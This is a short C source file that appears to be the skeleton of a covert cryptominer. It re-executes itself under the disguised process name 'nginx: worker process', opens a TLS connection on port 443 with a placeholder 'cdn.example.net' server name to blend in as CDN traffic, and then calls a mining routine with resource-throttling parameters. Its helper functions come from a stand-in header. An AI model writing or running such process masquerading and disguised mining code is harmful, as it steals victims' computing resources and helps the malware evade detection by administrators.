#include "stand-in.h"

int main(int argc, char **argv)
{
	if (argc > 1 || strncmp(argv[0], "nginx:", 6) != 0)
		execl("/proc/self/exe", "nginx: worker process", (char *)NULL);
	int pool = dial("tls", 443);

	tls_hello(pool, "cdn.example.net");
	mine(pool, 0, 90, 25, NULL);
}
